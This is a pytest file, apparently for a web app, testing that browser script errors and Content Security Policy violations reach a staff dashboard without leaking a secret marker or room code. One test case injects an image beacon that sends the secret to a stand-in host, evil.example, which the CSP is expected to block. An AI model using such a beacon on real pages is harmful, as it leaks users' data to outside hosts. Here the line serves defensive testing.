"""What a real browser meets on our pages reaches staff: errors of scripts, and what the security policy has blocked."""

import pytest

from tests.conftest import Server
from tests.support.staff import Operator, make_staff

SECRET = "Adelheid"  # stands in all that goes wrong here
ERROR = f"const error = new RangeError('{SECRET} gives ember'); error.code = '{SECRET}';"
APPEND = "document.body.append(it)"
# Each is run by the page itself, a moment later: an error of the test's own call would be the test's.
TROUBLES = {
    "RangeError": f"setTimeout(() => {{ {ERROR} throw error }})",
    "TypeError": f"setTimeout(() => Promise.reject(new TypeError('{SECRET}')))",
    "script-src-elem inline": f"const it = document.createElement('script'); it.text = '{SECRET}'; {APPEND}",
    "img-src https://evil.example": f"new Image().src = 'https://evil.example/{SECRET}.png?{SECRET}'",
}


@pytest.fixture(scope="module")
def watched(tmp_path_factory):
    server = Server(tmp_path_factory.mktemp("watched"), DASHBOARD_TICK="0.3", PULSE="0.3").start()
    make_staff(server)
    yield server
    server.stop()


def see(server, words):
    """Wait until the dashboard shows a report with these words. Return its line."""
    with Operator(server.url) as olga:
        olga.look()

        def find():
            return [line for line in olga.region("browsers").all("li") if words in line.text]

        olga.wait(lambda _: find())
        return find()[0].text


def check_kept(server, code):
    kept = str(server._query("SELECT figures FROM play_process")) + server.log()
    assert SECRET not in kept and "ember" not in kept
    lines = [line for line in server.log().splitlines() if "Browsers report" in line]
    assert not any(code in line for line in lines)


@pytest.mark.parametrize("what", TROUBLES)
def test_what_goes_wrong_in_a_room_is_on_the_dashboard(what, visitor, gather, watched):
    eve = visitor("phone", "Eve")
    eve.forgive(SECRET, "CSP", "violates", "evil.example")
    code = gather("Ada", server=watched).code
    eve.page.goto(f"{watched.url}/r/{code}/?hide#how")
    eve.page.evaluate(f"() => {{ {TROUBLES[what]} }}")
    line = see(watched, what)
    assert " room · Chrome " in line and SECRET not in line and code not in line
    check_kept(watched, code)


def test_an_error_in_our_own_script_names_file_line_and_column_and_is_sent_once_for_each_page(visitor, watched):
    eve, sent = visitor("desk", "Eve"), []
    eve.forgive("scrollIntoView")
    eve.page.on("request", lambda request: request.url.endswith("/browser/") and sent.append(request))
    eve.page.goto(watched.url)
    eve.page.evaluate("Element.prototype.scrollIntoView = null; document.body.id = 'turn'")
    eve.page.evaluate(
        """() => { const box = document.createElement("input"); document.body.append(box); box.id = "board";
                   box.innerHTML = ""; box.outerHTML = '<i id="board"><label><input value="a7"></label></i>';
                   const typed = document.createElement("input"); document.body.append(typed); typed.value = "a7";
                   for (let n = 0; n < 5; n++) typed.dispatchEvent(new Event("input", { bubbles: true })) }"""
    )
    line = see(watched, "TypeError page.js:")
    assert " front · Chrome " in line and len(sent) == 1
